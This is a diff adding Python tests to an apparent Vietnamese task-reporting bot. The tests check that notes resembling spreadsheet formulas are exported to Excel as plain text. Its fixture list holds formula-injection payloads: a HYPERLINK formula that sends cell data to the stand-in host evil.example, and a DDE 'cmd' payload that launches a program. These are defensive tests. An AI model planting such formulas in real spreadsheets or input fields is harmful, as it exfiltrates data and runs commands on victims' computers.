@@ -118,3 +118,45 @@ async def test_overview_shows_departments_overdue_work_and_targets_at_risk(
     assert (
         "photo" in photo and "Tỷ lệ nhiệm vụ hoàn thành đúng hạn theo bộ phận" in photo["caption"]
     )
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Xem minh chứng")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+async def test_M5_a_note_that_looks_like_a_formula_is_exported_as_text(bot: BotHarness) -> None:
+    """Formula injection: what an official types reaches the leaders' Excel as plain text."""
+    await bot.make_staff(OFFICIAL_TP, "TP")
+    await bot.make_staff(LEADER, "VP", Role.LEADER)
+    await bot.say(OFFICIAL_TP, f"/baocao 2.3a xong {FORMULAS[0]}")
+    await bot.say(LEADER, "/xuatbaocao quy 2025-Q2")
+    [xlsx] = [
+        m for m in bot.replies(LEADER) if "xlsx" in m.get("document", {}).get("file_name", "")
+    ]
+    book = load_workbook(io.BytesIO(bot.emulator.file_bytes(xlsx["document"]["file_id"])))
+    [cell] = [c for row in book["Nhiệm vụ"].iter_rows() for c in row if c.value == FORMULAS[0]]
+    assert cell.data_type == "s" and cell.quotePrefix
+
+
+def test_M5_every_formula_start_is_written_as_text() -> None:
+    from openpyxl import Workbook
+
+    from services.reports.excel import _as_text
+
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet.append([*FORMULAS, "bình thường", 42])
+    _as_text(sheet)
+    buffer = io.BytesIO()
+    book.save(buffer)
+    [row] = load_workbook(buffer)["Sheet"].iter_rows()
+    assert [c.value for c in row] == [*FORMULAS, "bình thường", 42]
+    assert [c.data_type for c in row] == ["s"] * (len(FORMULAS) + 1) + ["n"]
+    assert [bool(c.quotePrefix) for c in row] == [True] * len(FORMULAS) + [False, False]
